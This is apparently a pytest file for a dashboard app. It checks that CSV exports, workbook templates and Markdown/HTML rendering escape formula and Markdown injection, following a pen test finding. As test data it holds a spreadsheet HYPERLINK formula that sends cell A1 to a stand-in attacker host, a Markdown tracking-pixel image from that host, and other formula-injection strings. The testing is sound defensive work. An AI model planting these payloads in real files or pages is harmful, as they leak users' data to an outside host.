"""Pen test finding 7: formula and Markdown injection. Every CSV and workbook the app writes escapes text
that begins with =, +, -, @, tab or carriage return (metrics.safe_text, OWASP's CSV injection guidance);
text from data shown as Markdown is escaped. (The image payload in a real browser: test_golive_browser.)"""

from __future__ import annotations

import csv
import io

import hostile
import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from metrics import cli
from metrics.admin import reference, setup, users
from metrics.contract import NRM_REFERRALS
from metrics.returns import ingest
from metrics.returns.template import build_template
from tests.conftest import ROOT

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
IMAGE = "![pixel](http://attacker.example/pixel.png)"


@pytest.mark.parametrize(
    ("text", "field"),
    [(HYPERLINK, "'" + HYPERLINK), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
     ("\tTab", "'\tTab"), ("\rReturn", "'\rReturn"), ("Plain text", "Plain text"), ("'quoted", "'quoted"),
     ("a=b", "a=b"), (12.5, 12.5), (None, None)],
)
def test_a_csv_field_that_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(text, field):
    from metrics import safe_text  # here, so that the other tests run on code without it

    assert safe_text.csv_field(text) == field
    assert safe_text.from_csv_field(field) == text


def test_the_settings_export_escapes_formulas_and_imports_them_back_as_they_were(empty_db, tmp_path, capsys):
    # On the starting commit `settings export` wrote =HYPERLINK("http://…"&A1,"click") as it was.
    con = setup.open_database(empty_db)
    try:
        reference.set_cost_benefit(con, 3.35, HYPERLINK, "mo")
        rows = "area,period_start,period_end,referrals\n=1+1,2019-01-01,2019-12-31,40\n@cmd,2019-01-01,2019-12-31,41\n"
        reference.replace_table(con, NRM_REFERRALS, reference.read_csv(NRM_REFERRALS, rows.encode(), "nrm.csv"))
        page_export = reference.to_csv(con, NRM_REFERRALS)  # what the Settings page's Export button gives
    finally:
        con.close()
    assert cli.run(["settings", "export", str(tmp_path / "out"), "--db", str(empty_db)]) == 0
    written = {p.name: list(csv.reader(p.open(encoding="utf-8"))) for p in (tmp_path / "out").iterdir()}
    assert written["settings.csv"][2] == ["cost_benefit_source", "'" + HYPERLINK]
    assert [row[0] for row in written["nrm_referrals.csv"][1:]] == ["'=1+1", "'@cmd"]
    assert [row[0] for row in csv.reader(io.StringIO(page_export))][1:] == ["'=1+1", "'@cmd"]
    # Imported again, each is the text it was.
    assert cli.run(["settings", "import", *(str(tmp_path / "out" / n) for n in ("nrm_referrals.csv", "settings.csv")),
                    "--db", str(empty_db)]) == 0
    con = setup.open_database(empty_db)
    try:
        assert reference.settings.cost_benefit(con)[1] == HYPERLINK
        assert [r[0] for r in reference.settings.table_rows(con, NRM_REFERRALS)] == ["=1+1", "@cmd"]
    finally:
        con.close()


def test_the_template_holds_no_formula_and_its_text_cannot_become_one():
    from metrics import safe_text  # here, so that the other tests run on code without it

    book = load_workbook(io.BytesIO(build_template()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.quotePrefix for c in cells if safe_text.formula_like(c.value))


@pytest.mark.parametrize(("text", "shown"), [
    (IMAGE, r"\!\[pixel\]\(http\://attacker\.example/pixel\.png\)"),
    ("**bold** <img src=x> :red[alarm] $x$", r"\*\*bold\*\* \<img src\=x\> \:red\[alarm\] \$x\$"),
    ("two\nlines", "two lines"),
])
def test_markdown_text_is_shown_as_itself(text, shown):
    from metrics import safe_text  # here, so that the other tests run on code without it

    assert safe_text.markdown(text) == shown


def test_html_text_is_shown_as_itself():
    from metrics import safe_text  # here, so that the other tests run on code without it

    assert safe_text.html(IMAGE + " <b>") == ("&#33;&#91;pixel&#93;&#40;http&#58;//attacker&#46;example/pixel&#46;png"
                                             "&#41; &lt;b&gt;")


def test_the_service_name_and_the_ratios_source_reach_the_pages_escaped(tmp_path, monkeypatch):
    from metrics import safe_text  # here, so that the other tests run on code without it

    path = tmp_path / "dashboard.duckdb"
    data = hostile.base_return()
    data["about"]["service"] = IMAGE
    con = setup.open_database(path)
    ingest.ingest_bytes(con, hostile.workbook(data), "march.xlsx", user="mo")
    reference.set_cost_benefit(con, 3.35, IMAGE, "mo")
    users.add_user(con, "mo.manager", "manager", "violet tractor harbour", actor="test")
    con.close()
    monkeypatch.setenv("DASHBOARD_DB", str(path))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=90)
    at.run()
    at.text_input[0].input("mo.manager")  # signed in through the form: a live session on the server
    at.text_input[1].input("violet tractor harbour")
    at.button[0].click()
    at.run()
    for page in ("summary", "spend", "demand", "data_quality"):
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, page
        texts = [e.value for e in [*at.markdown, *at.caption]]
        assert not [t for t in texts if IMAGE in t], page
        assert [t for t in texts if safe_text.markdown(IMAGE) in t], page
